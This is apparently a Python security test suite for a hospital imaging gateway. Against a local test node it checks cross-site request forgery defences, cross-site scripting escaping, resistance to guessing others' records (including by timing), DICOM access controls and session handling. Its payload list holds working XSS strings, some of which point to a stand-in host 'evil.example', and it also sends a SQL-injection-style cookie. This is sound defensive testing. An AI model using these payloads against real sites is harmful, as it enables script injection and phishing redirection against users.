#!/usr/bin/env python3
"""What somebody tries who means no good: forged requests on every unsafe route of the route table, text that wants to be
a program on every page, guessing what belongs to others, and stolen sessions.

    attacks.py WILLIS
"""

import os
import pathlib
import re
import secrets
import sqlite3
import statistics
import subprocess
import sys
import threading
import time

import httpx
import pydicom
from playwright.sync_api import sync_playwright
from pynetdicom import AE, QueryRetrievePresentationContexts
from pynetdicom.sop_class import CTImageStorage

sys.path.insert(0, str(pathlib.Path(__file__).parent))
from node import Node, Tally  # noqa: E402

willis = str(pathlib.Path(sys.argv[1]).resolve())
sources = pathlib.Path(__file__).resolve().parents[3] / "Sources" / "Gateway"
tally = Tally()
STUDY = "1.2.826.0.1.3680043.10.1.77"
PASSWORD = "correct horse battery"
PAYLOADS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>", "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>",
    "{{constructor.constructor('alert(1)')()}}", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "</textarea><script>alert(1)</script>", "<img/src=`x`onerror=alert(1)>", "<form action=//evil.example><button>",
    "\" autofocus onfocus=alert(1) x=\"", "<meta http-equiv=refresh content='0;url=//evil.example'>", "&lt;script&gt;",
    "<div hx-get=//evil.example hx-trigger=load>", "\u2028alert(1)//", "<style>*{display:none}</style>",
]


def table():
    """The routes of pages by name, and which of them take a form, as the sources have them."""
    urls = dict(re.findall(r'^    case (\w+) = "([^"]+)"', (sources / "Pages/URLs.swift").read_text(), re.M))
    posts = set()
    for path in sources.rglob("*.swift"):
        posts |= set(re.findall(r"\bpost\(\.(\w+),", path.read_text()))
    return urls, posts


class Person:
    def __init__(self, node, name, link=True):
        self.node, self.name = node, name
        self.client = httpx.Client(base_url=node.base, timeout=20)
        if link:
            self.client.get(node.link(name))

    def token(self):
        return re.search(r'name="token" value="([0-9a-f]+)"', self.client.get("/account").text).group(1)

    def post(self, path, headers=None, **fields):
        fields.setdefault("token", self.token())
        fields.setdefault("wish", secrets.token_hex(16))
        return self.client.post(path, data=fields, headers=headers or {})


def image(number):
    dataset = pydicom.Dataset()
    dataset.file_meta = pydicom.dataset.FileMetaDataset()
    dataset.file_meta.TransferSyntaxUID = pydicom.uid.ExplicitVRLittleEndian
    dataset.SOPClassUID = dataset.file_meta.MediaStorageSOPClassUID = CTImageStorage
    dataset.StudyInstanceUID, dataset.SeriesInstanceUID = STUDY, STUDY + ".1"
    dataset.SOPInstanceUID = dataset.file_meta.MediaStorageSOPInstanceUID = f"{STUDY}.1.{number}"
    dataset.PatientID, dataset.PatientName = PAYLOADS[2], PAYLOADS[1].replace("^", "") + "^" + PAYLOADS[0]
    dataset.StudyDescription, dataset.SeriesDescription = PAYLOADS[0], PAYLOADS[1]
    dataset.AccessionNumber, dataset.InstitutionName = "<b>1", PAYLOADS[2]
    dataset.Modality, dataset.StudyDate, dataset.StudyTime = "CT", "20261101", "101010"
    dataset.Rows = dataset.Columns = 4
    dataset.BitsAllocated = dataset.BitsStored = 16
    dataset.HighBit, dataset.PixelRepresentation, dataset.SamplesPerPixel = 15, 0, 1
    dataset.PhotometricInterpretation, dataset.PixelData = "MONOCHROME2", b"\0\1" * 16
    return dataset


def fill(node):
    """Two hospitals; the second has a case, images and people full of hostile text."""
    people = {"boss": (1, ("neurologist", "coordinator", "image-manager", "system-administrator",
                           "security-administrator", "audit-administrator")),
              "doctor": (2, ("emergency-physician",)), "other": (3, ("neurologist",)), "second": (2, ("neurologist",))}
    for name in people:
        node.user(name)
    with sqlite3.connect(f"{node.data}/willis.sqlite", timeout=20) as database:
        for number in (2, 3):
            database.execute("INSERT INTO sites (id, parent, name, english_name, kind, capabilities, service_hours,"
                             " active, settings_json) VALUES (?, 1, ?, ?, 'alliance', '', ?, 1, '{}')",
                             (number, PAYLOADS[1] + str(number), PAYLOADS[2], PAYLOADS[0]))
        for name, (site, roles) in people.items():
            account, = database.execute("SELECT id FROM accounts WHERE name = ?", (name,)).fetchone()
            database.execute("DELETE FROM memberships WHERE account = ?", (account,))
            for role in roles:
                database.execute("INSERT INTO memberships VALUES (?, ?, ?)", (account, site, role))
            if name in ("doctor", "boss"):
                database.execute("INSERT OR IGNORE INTO memberships VALUES (?, 2, 'neurologist')", (account,))
        database.execute("UPDATE accounts SET full_name = ? WHERE name = 'second'", (PAYLOADS[0],))
    subprocess.run([willis, "peer", "set", "COUNTY", "--site", "2", "--query", "--data", node.data], check=True, capture_output=True)
    subprocess.run([willis, "peer", "set", "ELSEWHERE", "--site", "3", "--query", "--data", node.data], check=True,
                   capture_output=True)
    ae = AE(ae_title="COUNTY")
    ae.add_requested_context(CTImageStorage)
    association = ae.associate("127.0.0.1", node.port, ae_title="WILLIS")
    statuses = [association.send_c_store(image(number)).Status for number in (1, 2)]
    association.release()
    tally.check("the images are stored", statuses == [0, 0], str(statuses))


def hostile(node, doctor, boss):
    """A case whose every text is a payload."""
    opened = doctor.post("/cases/new", key=secrets.token_hex(16), name=PAYLOADS[0], number=PAYLOADS[1], place="here",
                         site="2", complaint=PAYLOADS[2])
    key = opened.headers["location"].rsplit("/", 1)[1]
    page = f"/cases/{key}"
    for fact in ("complaint", "decision-reason", "complication-note"):
        for payload in PAYLOADS:
            doctor.post(page + "/facts", **{fact: payload, "key": secrets.token_hex(16), "seen." + fact: "0"})
    for payload in PAYLOADS:
        doctor.post(page + "/messages", text=payload)
    doctor.post(page + "/team", action="ask", site="1", text=PAYLOADS[1])
    doctor.post(page + "/team", action="request", site="1", text=PAYLOADS[2])
    doctor.post(page + "/team", action="activate", kind="stroke", site="2")
    boss.post("/emergency", act="open", number=PAYLOADS[2], reason=PAYLOADS[0] + " because")
    with sqlite3.connect(f"{node.data}/willis.sqlite", timeout=20) as database:
        database.execute("INSERT OR IGNORE INTO case_studies (case_id, study_uid, linked_ms) SELECT id, ?, 1 FROM cases",
                         (STUDY,))
    return key


def fill_in(node, path, key):
    """A route with its parameters: real ones of the second hospital."""
    person = node.rows("SELECT key FROM accounts WHERE name = 'second'")[0][0]
    site = node.rows("SELECT * FROM sites WHERE id = 2")[0]
    records = [row[0] for row in node.rows("SELECT key FROM patient_records ORDER BY id")]
    patient, other = records[0], records[-1]
    values = {"case": key, "study": STUDY, "series": STUDY + ".1", "instance": STUDY + ".1.1", "panel": "rules",
              "person": person, "site": "2", "film": "1", "version": "1", "name": "willis.js", "token": "0" * 64,
              "patient": patient, "other": other, "merge": "1", "provider": "none", "location": "0" * 64}
    return re.sub(r"\{(\w+)\}", lambda found: str(values[found.group(1)]), path)


def counts(node):
    """How much of everything there is; what only notes that somebody was here is left out."""
    tables = [row[0] for row in node.rows("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite%'")]
    # What has just arrived, and whom one has met, is noted and counted in the background, whoever asks for what meanwhile.
    notes = {"jobs", "storage_figures", "peer_contacts", "team_settings", "ledger", "sessions", "events", "sign_in_failures", "ledger_deliveries", "grdb_migrations", "one_time_tokens",
             "scrub_folders", "moving_moments"}
    return {name: node.rows(f"SELECT count(*) FROM \"{name}\"")[0][0] for name in tables if name not in notes}


def forged(node, boss, other, key):
    urls, posts = table()
    tally.check("the route table is read", len(urls) > 50 and len(posts) > 20, f"{len(urls)} {len(posts)}")
    right, foreign = boss.token(), other.token()
    before = counts(node)
    attempts = 0
    for name in sorted(posts):
        path = fill_in(node, urls[name], key)
        body = {"action": "activate", "kind": "stroke", "site": "2", "text": "x", "act": "open", "state": "cancelled",
                "language": "en", "name": "boss", "password": PASSWORD, "new": "x" * 20, "again": "x" * 20,
                "number": "1", "reason": "forged request", "weight": "70", "key": secrets.token_hex(16)}
        ways = [("no token", None, {}), ("a wrong token", "0" * 64, {}), ("another's token", foreign, {}),
                ("another origin", right, {"Origin": "https://evil.example"}),
                ("a foreign page", right, {"Sec-Fetch-Site": "cross-site"}),
                ("a neighbouring site", right, {"Sec-Fetch-Site": "same-site"})]
        for way, token, headers in ways:
            data = dict(body, **({"token": token} if token else {}))
            answer = boss.client.post(path, data=data, headers=headers)
            attempts += 1
            # The sign-in page says that it was open too long, and signs nobody in; an invitation that is none is not found.
            harmless = answer.status_code in (403, 404) or (
                answer.status_code == 422 and name in ("signIn",) and "session=" not in str(answer.headers))
            tally.check(f"{way} does nothing at {urls[name]}", harmless, f"{answer.status_code} {answer.headers.get('location')}")
    tally.check("nothing was changed by any of them", counts(node) == before, str(
        {k: (v, before.get(k)) for k, v in counts(node).items() if before.get(k) != v}))
    # Faces of programs take no cookie of a browser for an unsafe request.
    for method, path in (("POST", "/api/cases"), ("POST", f"/api/cases/{key}/facts"), ("POST", "/fhir/Observation"),
                         ("POST", "/dicom-web/studies"), ("DELETE", f"/dicom-web/studies/{STUDY}"),
                         ("POST", "/dicom-web/workitems"), ("POST", "/api/worklist")):
        answer = boss.client.request(method, path, json={}, headers={"Origin": "https://evil.example",
                                                                     "Sec-Fetch-Site": "cross-site"})
        tally.check(f"a browser's cookie alone does not open {method} {path}", answer.status_code in (401, 403, 404, 405),
                    f"{answer.status_code} {answer.text[:100]}")
    tally.check("nor was anything changed", counts(node) == before)
    print(f"    {attempts} forged forms on {len(posts)} routes")


def scripts(node, people, key):
    """Every page of the route table, with hostile text in every field, in a browser that would run it."""
    urls, _ = table()
    fragments = {"worklistRows", "asset", "favicon", "health", "signOut", "picture", "film", "pushWorker",
                 "comparisonCSV", "comparisonJSON"}
    seen = {"dialog": [], "error": [], "policy": [], "foreign": []}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        for name in people:
            page = browser.new_context(locale="en-GB").new_page()
            page.add_init_script("document.addEventListener('securitypolicyviolation', e => console.log('POLICY ' + "
                                 "e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample))")
            page.on("dialog", lambda d: (seen["dialog"].append(page.url), d.dismiss()))
            page.on("pageerror", lambda e: seen["error"].append(f"{page.url} {e}"))
            page.on("console", lambda m: seen["policy"].append(f"{page.url} {m.text}")
                    if m.text.startswith("POLICY") or "Content Security Policy" in m.text else None)
            page.on("request", lambda r: None if r.url.startswith((node.base, "data:", "blob:"))
                    else seen["foreign"].append(r.url))
            page.goto(node.link(name))
            count = 0
            for route, path in urls.items():
                if route in fragments or "{token}" in path or "{provider}" in path or path.endswith("/events"):
                    continue
                answer = page.goto(node.base + fill_in(node, path, key), wait_until="domcontentloaded")
                if answer and answer.status == 200 and "text/html" in answer.headers.get("content-type", ""):
                    count += 1
                    page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
                    page.wait_for_timeout(60)
            tally.check(f"{name} saw many pages", count > 15, str(count))
            page.goto(f"{node.base}/cases/{key}")
            text = page.locator("main").inner_text()
            shown = [payload for payload in PAYLOADS[:3] if payload in text]
            tally.check("hostile text is shown as text", len(shown) >= 2, str(shown))
            print(f"    {name}: {count} pages, {len(PAYLOADS)} payloads")
        browser.close()
    for kind, found in seen.items():
        tally.check(f"no {kind} on any page", not found, str(found[:3]))


def guessing(node, doctor, other, key):
    """What is another's and what is not there are the same, in words and in time."""
    urls, _ = table()
    nothing = {"case": secrets.token_hex(16), "study": STUDY + ".9", "person": secrets.token_hex(16)}
    def answer(path, who):
        begun = time.perf_counter()
        reply = who.client.get(path)
        took = time.perf_counter() - begun
        text = re.sub(r"[0-9a-f]{64}|[0-9a-f]{32}|data-(now|since)=\"\d+\"|<input type=\"hidden\" name=\"back\"[^>]*>|<code>[0-9a-f]{8}</code>|" + re.escape(STUDY)
                      + r"[.\d]*", "", reply.text)
        return reply.status_code, text, took
    routes = [path for path in urls.values() if "{case}" in path or "{study}" in path]
    routes += ["/dicom-web/studies/{study}/metadata", "/dicom-web/studies/{study}", "/api/cases/{case}",
               "/dicom-web/studies/{study}/rendered"]
    for path in routes:
        hidden = fill_in(node, path, key)
        absent = hidden.replace(key, nothing["case"]).replace(STUDY, nothing["study"])
        one, two = answer(hidden, other), answer(absent, other)
        tally.check(f"another's is as if it were not there: {path}", one[:2] == two[:2] and one[0] != 200,
                    f"{one[0]} {two[0]} {len(one[1])} {len(two[1])}")
    for path in ("/cases/{case}", "/studies/{study}", "/dicom-web/studies/{study}/metadata"):
        hidden = fill_in(node, path, key)
        absent = hidden.replace(key, nothing["case"]).replace(STUDY, nothing["study"])
        pairs = [(answer(hidden, other)[2], answer(absent, other)[2]) for _ in range(25)]
        one, two = (statistics.median(times) for times in zip(*pairs))
        tally.check(f"and takes as long: {path}", abs(one - two) < max(0.004, 0.5 * max(one, two)), f"{one:.4f} {two:.4f}")
    for number in list(range(1, 9)):
        for path in (f"/cases/{number}", f"/api/cases/{number}", f"/fhir/Encounter/{number}", f"/fhir/Patient/{number}",
                     f"/people/{number}", f"/archive/films/{number}"):
            code = other.client.get(path).status_code
            tally.check("numbers in order open nothing", code in (401, 403, 404), f"{path} {code}")
    tally.check("whose it is sees it", doctor.client.get(f"/cases/{key}").status_code == 200)


def devices(node):
    """Each service of query and retrieval that the node offers, asked by another hospital's device."""
    asked = 0
    for title, expected in (("COUNTY", True), ("ELSEWHERE", False)):
        ae = AE(ae_title=title)
        for context in QueryRetrievePresentationContexts:
            ae.add_requested_context(context.abstract_syntax)
        association = ae.associate("127.0.0.1", node.port, ae_title="WILLIS")
        for context in association.accepted_contexts:
            name = pydicom.uid.UID(context.abstract_syntax).name
            if not name.endswith(("FIND", "MOVE", "GET")) or "Root" not in name:
                continue
            identifier = pydicom.Dataset()
            identifier.QueryRetrieveLevel = "STUDY"
            identifier.StudyInstanceUID = STUDY
            if "Patient Root" in name:
                identifier.PatientID = "" if name.endswith("FIND") else PAYLOADS[2]
            asked += 1
            if name.endswith("FIND"):
                found = [a for s, a in association.send_c_find(identifier, context.abstract_syntax) if a is not None]
                if "Patient Root" not in name:
                    tally.check(f"{title}: {name}", bool(found) == expected, str(found))
                else:
                    tally.check(f"{title}: {name}", expected or not found, str(found))
                continue
            ask = association.send_c_get if name.endswith("GET") else association.send_c_move
            more = (context.abstract_syntax,) if name.endswith("GET") else ("ELSEWHERE", context.abstract_syntax)
            answers = [s for s, _ in (ask(identifier, *more[::1]) if name.endswith("GET") else
                                      association.send_c_move(identifier, "ELSEWHERE", context.abstract_syntax))]
            last = answers[-1]
            moved = getattr(last, "NumberOfCompletedSuboperations", 0) or 0
            if not expected:
                tally.check(f"{title}: {name} gives nothing", not moved, str(last))
        association.release()
    tally.check("every service was asked", asked >= 8, str(asked))


def sessions(node, doctor):
    fresh = httpx.Client(base_url=node.base, timeout=20)
    fresh.cookies.set("willis-session", "f" * 64)
    planted = fresh.cookies.get("willis-session")
    page = fresh.get("/sign-in")
    form = re.search(r'name="token" value="([0-9a-f]+)"', page.text).group(1)
    answer = fresh.post("/sign-in", data={"token": form, "name": "second", "password": PASSWORD, "next": ""})
    cookies = answer.headers.get_list("set-cookie")
    session = next((line for line in cookies if line.startswith("willis-session=")), "")
    tally.check("signing in gives a new session", session and planted not in session, str(cookies))
    for word in ("HttpOnly", "SameSite=Strict", "Path=/"):
        tally.check(f"its cookie is {word}", word.lower() in session.lower(), session)
    tally.check("the form's secret is changed too", any(
        line.startswith("willis-form=") and form not in line for line in cookies), str(cookies))
    value = re.match(r"willis-session=([^;]+)", session).group(1)
    tally.check("no address has it", value not in str(answer.headers.get("location")))
    tally.check("the archive has only its hash", not any(
        value in str(row) for row in node.rows("SELECT * FROM sessions")))
    def use(token, path="/account"):
        return httpx.get(node.base + path, cookies={"willis-session": token}, timeout=20).status_code
    tally.check("it opens pages", use(value) == 200 and use(planted) != 200)
    # The rights of now, not those of the sign-in.
    with sqlite3.connect(f"{node.data}/willis.sqlite", timeout=20) as database:
        database.execute("DELETE FROM memberships WHERE account = (SELECT id FROM accounts WHERE name = 'second')")
    tally.check("a role that was taken away is gone at once", use(value, "/board") in (403, 404), str(use(value, "/board")))
    with sqlite3.connect(f"{node.data}/willis.sqlite", timeout=20) as database:
        database.execute("INSERT INTO memberships SELECT id, 2, 'neurologist' FROM accounts WHERE name = 'second'")
    # A revoked session's open streams end, and tell nothing any more.
    told, ended = [], threading.Event()
    def listen():
        with httpx.stream("GET", node.base + "/board/events", cookies={"willis-session": value}, timeout=60) as stream:
            for line in stream.iter_lines():
                told.append(line)
        ended.set()
    threading.Thread(target=listen, daemon=True).start()
    end = time.monotonic() + 10
    while not any("ready" in line for line in told) and time.monotonic() < end:
        time.sleep(0.05)
    third = Person(node, "second")
    code = re.search(r'name="token" value="([0-9a-f]+)"', third.client.get("/account/sessions").text).group(1)
    third.client.post("/account/sessions", data={"token": code, "act": "others"})
    tally.check("a session that was ended opens nothing", use(value) != 200)
    before = len(told)
    doctor.post("/cases/new", key=secrets.token_hex(16), name="x", place="here", site="2")
    tally.check("its stream ends with the next event", ended.wait(8))
    tally.check("and told nothing of it", not any("cases" in line for line in told[before:]), str(told[before:]))
    # A new password ends all others, and gives a new session.
    old = third.client.cookies.get("willis-session")
    answer = third.post("/account", current=PASSWORD, new="another horse battery", again="another horse battery")
    tally.check("a new password gives a new session", third.client.cookies.get("willis-session") != old
                and use(old) != 200, f"{answer.status_code}")
    live = third.client.cookies.get("willis-session")
    # Nobody here for half a day, or a week since the sign-in.
    for column, age in (("last_seen_ms", 13 * 3600), ("created_ms", 8 * 86400)):
        person = Person(node, "second")
        token = person.client.cookies.get("willis-session")
        tally.check("a new session opens pages", use(token) == 200)
        with sqlite3.connect(f"{node.data}/willis.sqlite", timeout=20) as database:
            database.execute(f"UPDATE sessions SET {column} = {column} - ? WHERE account = (SELECT id FROM accounts WHERE"
                             " name = 'second')", (age * 1000,))
        tally.check(f"it ends by {column}", use(token) != 200)
    person = Person(node, "doctor")
    token = person.client.cookies.get("willis-session")
    person.post("/sign-out")
    tally.check("signing out ends the session", use(token) != 200)
    # An overlong, doubled or odd cookie is nobody's.
    for odd in ("", "x" * 600, "%00" * 20, "' OR 1=1 --", value + value):
        code = httpx.get(node.base + "/account", headers={"Cookie": f"willis-session={odd}"}, timeout=20).status_code
        tally.check("an odd cookie is nobody's", code in (303, 400, 401), f"{odd[:20]} {code}")


def main():
    node = Node(willis)
    try:
        fill(node)
        boss, doctor, other = (Person(node, name) for name in ("boss", "doctor", "other"))
        key = hostile(node, doctor, boss)
        for work in (lambda: forged(node, boss, other, key), lambda: guessing(node, doctor, other, key),
                     lambda: devices(node), lambda: sessions(node, doctor),
                     lambda: scripts(node, ("boss", "doctor"), key)):
            begun = time.monotonic()
            work()
            print(f"    {time.monotonic() - begun:.0f} s", flush=True)
    finally:
        node.kill()
    sys.exit(tally.finish())


main()
